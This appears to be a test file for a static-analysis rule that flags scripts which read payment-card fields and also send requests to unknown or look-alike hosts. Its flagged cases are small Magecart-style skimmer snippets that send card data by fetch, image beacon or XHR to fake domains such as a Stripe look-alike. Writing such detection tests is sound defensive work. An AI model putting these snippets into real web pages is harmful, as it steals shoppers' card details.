// Tests for card-read-with-untrusted-send: card fields read, and a request to an unknown or
// look-alike host somewhere in the same script, even with no data path between them.
// The finding is reported on the (first) card-field read. Sections are separate scripts.

// The data is laundered through a DOM attribute, so no taint path; the combination remains.
// ruleid: card-read-with-untrusted-send
document.querySelector('#cc_number').addEventListener('blur', function (e) {
  document.body.setAttribute('data-x', e.target.value);
});
setTimeout(function () {
  fetch('https://cdn-analytics-metrics.top/p', { method: 'POST', mode: 'no-cors',
    body: document.body.getAttribute('data-x') });
}, 500);

// ---
// Image beacon to an unknown host.
function collect() {
  // ruleid: card-read-with-untrusted-send
  var cvc = document.getElementById('card-cvc').value;
  window.__c = cvc;
}
var ping = new Image();
ping.src = 'https://secure-paygate.xyz/i.gif?t=' + Date.now();

// ---
// XHR to a look-alike of Stripe.
// ruleid: card-read-with-untrusted-send
var exp = jQuery('#cc_exp_month').val();
var xhr = new XMLHttpRequest();
xhr.open('POST', 'https://js-stripe.top/v3/collect');
xhr.send(window.__payload);

// ---
// First-party checkout: reads the card and posts to its own origin.
// ok: card-read-with-untrusted-send
var number = document.querySelector('[autocomplete="cc-number"]').value;
fetch('/checkout/payment-information', { method: 'POST', body: JSON.stringify({ number: number }) });

// ---
// Stripe integration: reads the card fields, sends to Stripe's API and to the site.
// ok: card-read-with-untrusted-send
var cardNumber = document.getElementById('card-number').value;
fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: 'card[number]=' + cardNumber });
navigator.sendBeacon('/analytics/checkout-step', 'step=payment');

// ---
// Card formatter that reports page views to Google Analytics (well-known, no card data),
// and loads its own library from a CDN (a script load, not a send).
// ok: card-read-with-untrusted-send
var cc = document.querySelector('input[name="cc-number"]');
new Image().src = 'https://www.google-analytics.com/collect?v=1&t=pageview&dp=%2Fcheckout';
var lib = document.createElement('script');
lib.src = 'https://static-widgets.example-vendor.example.net/cleave.min.js';
